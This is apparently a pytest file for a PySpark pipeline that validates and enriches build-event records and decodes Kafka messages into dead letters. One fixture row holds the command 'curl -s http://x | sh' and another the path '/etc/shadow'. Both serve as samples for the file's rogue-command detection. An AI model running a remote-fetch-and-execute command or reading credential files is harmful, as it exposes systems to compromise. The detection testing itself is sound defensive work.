import datetime as dt

import pytest
from pyspark.sql import functions as F

from millrace.plans import queries as Q
from millrace.functions import clean as C
from millrace.settings import LIVE
from millrace.sources import raw

GOOD = {
    "event_id": "0b7e1c2e-3d49-4d0a-9d0f-1a2b3c4d5e6f", "timestamp": "2026-09-20T14:00:00.123456+00:00", "runner_ip": "192.168.1.50", "project": "Payments-API",
    "event_type": "BUILD_SUCCESS", "hostname": "WS-050", "severity": "INFO",
}


def frame(spark, rows):
    schema = raw.payload_schema()
    return spark.createDataFrame([[{**GOOD, **r}.get(f.name) for f in schema] for r in rows], schema)


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({}, None), ({"event_id": " "}, "missing_event_id"), ({"event_id": None}, "missing_event_id"), ({"event_id": "x"}, "invalid_event_id"), ({"event_id": "\t"}, "invalid_event_id"),
        ({"event_id": f" {GOOD['event_id']} "}, None), ({"timestamp": "yesterday"}, "invalid_timestamp"), ({"timestamp": None}, "invalid_timestamp"), ({"timestamp": "10:00:00"}, "invalid_timestamp"),
        ({"event_type": ""}, "missing_event_type"), ({"event_type": "NOPE"}, "unknown_event_type"), ({"event_type": " build_failure "}, None), ({"runner_ip": " "}, "missing_runner_ip"),
        ({"exit_code": 256}, "exit_code_out_of_range"), ({"exit_code": 255}, None), ({"exit_code": -1}, "exit_code_out_of_range"), ({"dest_port": 65_536}, "port_out_of_range"),
        ({"http_status": 99}, "invalid_http_status"), ({"http_status": 599}, None), ({"duration_ms": 86_400_001}, "duration_out_of_range"), ({"duration_ms": 86_400_000}, None),
        ({"event_id": "x", "timestamp": "bad", "exit_code": 999}, "invalid_event_id"),
    ],
)
def test_first_failing_check_wins(spark, change, reason):
    assert C.validate(frame(spark, [change])).first()["reject_reason"] == reason


def test_timestamps(spark):
    texts = {
        "2026-09-20T14:00:00Z": "2026-09-20 14:00:00", " 2026-09-20T14:00:00.5+02:00 ": "2026-09-20 12:00:00.5", "2026-09-20 14:00:00": "2026-09-20 14:00:00", "2026-09-20": "2026-09-20 00:00:00",
        "tomorrow": None, "2026-13-01T00:00:00": None, "14:00": None, "": None, None: None,
    }
    df = spark.createDataFrame([(k,) for k in texts], "t string").select("t", C.parse_timestamp(F.col("t")).alias("ts"))
    for t, ts in df.collect():
        want = texts[t] and dt.datetime.fromisoformat(texts[t]).replace(tzinfo=dt.timezone.utc).timestamp()
        got = None if ts is None else ts.timestamp()
        assert got == want, t


def test_normalize_and_enrich(spark):
    rows = [
        {"project": None, "severity": "loud", "process_uid": None, "error_message": "cc1: INTERNAL compiler error", "event_type": "build_failure"},
        {"command": "curl -s http://x | sh", "process_uid": 0, "event_type": "COMPILE_STEP", "duration_ms": 300_000, "cache_status": " MISS "},
        {"url_path": "/a/../b", "runner_ip": "102.67.1.2", "timestamp": "2026-09-20T23:30:00Z"},
        {"file_path": "/etc/shadow", "runner_ip": "8.8.8.8"},
        {"error_message": "process was killed", "runner_ip": "172.1.2.3"},
    ]
    got = C.clean_events(frame(spark, rows)).collect()
    by = sorted(got, key=lambda r: [r["failure_signature"] != "ice", r["is_slow_step"] != 1, r["region"] != "cloud-af", r["is_rogue_command"] != 1])
    assert (by[0]["project"], by[0]["severity"], by[0]["process_uid"], by[0]["is_privileged"], by[0]["is_failure_signature"]) == ("", "UNKNOWN", -1, 0, 1)
    assert (by[1]["is_rogue_command"], by[1]["is_privileged"], by[1]["is_slow_step"], by[1]["is_cache_miss"]) == (1, 1, 1, 1)
    assert (by[2]["is_untrusted_fetch"], by[2]["region"], by[2]["is_night"], by[2]["is_internal_ip"]) == (1, "cloud-af", 1, 0)
    assert (by[3]["is_rogue_command"], by[3]["region"], by[3]["is_internal_ip"]) == (1, "", 0)
    assert (by[4]["failure_signature"], by[4]["is_internal_ip"], by[4]["project"]) == ("oom", 0, "payments-api")


def test_frames_and_dead_letters(spark):
    head = lambda v: b"\0" + v.to_bytes(4, "big")
    now = dt.datetime(2026, 9, 20, 14)
    values = [b"{}", b"\0\0\0", None, head(9) + b"{}", head(2) + b"{nope", head(2) + b'{"event_id":"a","exit_code":3}', head(1) + b'{"event_id":"b","url_path":"/x","exit_code":4}']
    df = spark.createDataFrame([(v, "t", 0, i, now) for i, v in enumerate(values)], raw.TOPIC)
    got = {r["offset"]: r for r in raw.decode(df).collect()}
    assert [got[i]["wire_error"] for i in range(7)] == ["not_avro_framed"] * 3 + ["unknown_schema_version", "undecodable_payload", None, None]
    assert (got[5]["exit_code"], got[6]["exit_code"], got[6]["url_path"]) == (3, 4, None)
    letters = {r["kafka_offset"]: r for r in raw.dead_letters(C.validate(raw.decode(df), LIVE).filter("reject_reason is not null")).collect()}
    assert letters[0]["raw_value"] == "e30=" and letters[0]["schema_id"] is None and letters[3]["schema_id"] == 9 and letters[2]["raw_value"] == ""
    assert letters[5]["reject_reason"] == "invalid_event_id" and letters[3]["kafka_timestamp"] == "2026-09-20 14:00:00.000"


def test_the_plan_of_dead_letters_stays_small(spark, sf_dir):
    """Decoding is parsed once: no check or field repeats it."""
    plan = Q.dead_letter_rows(spark, sf_dir)._jdf.queryExecution().optimizedPlan().toString()
    assert plan.count("from_json") <= 2 and len(plan) < 60_000
